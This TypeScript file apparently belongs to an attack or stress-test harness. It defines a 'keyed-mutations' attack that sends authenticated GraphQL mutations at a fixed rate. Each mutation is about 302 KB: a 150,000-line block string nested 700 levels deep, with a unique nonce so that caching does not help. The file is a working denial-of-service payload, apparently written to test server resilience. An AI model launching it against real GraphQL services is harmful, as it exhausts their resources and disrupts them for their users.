import { randomUUID } from 'node:crypto';
import type { Attack } from './attack.ts';
import { sendAtRate, sendPost } from './send-post.ts';

const LINES = 150_000;
const LEVELS = 700;
/** @unit requests per second */
const RATE = 10;
const MAX_PENDING = 4;

/**
 * Sends documents of 302 KB with an `Idempotency-Key`, 3 MB/s of a signed-in user: a block string of 150,000 lines below 700 nested
 * selections.
 */
export const keyedMutations: Attack = {
  name: 'keyed-mutations',
  point: 1,
  minRate: 0.8 * RATE,
  async run(target, tally, signal) {
    const send = async (): Promise<void> => {
      const headers = { authorization: `Bearer ${target.userToken}`, 'idempotency-key': randomUUID() };
      await sendPost(target, JSON.stringify({ query: documentOf(randomUUID()) }), { headers, tally, signal });
    };
    await sendAtRate(send, { perSecond: RATE, maxPending: MAX_PENDING, signal });
  },
};

/**
 * Each document is different, so that no cache helps. The block string begins and ends with text, because empty lines at its ends are not
 * part of its value.
 */
function documentOf(nonce: string): string {
  const block = `"""${nonce}${'\n'.repeat(LINES)}."""`;
  return `mutation { rename${' { a'.repeat(LEVELS)}(b: ${block})${' }'.repeat(LEVELS)} }`;
}
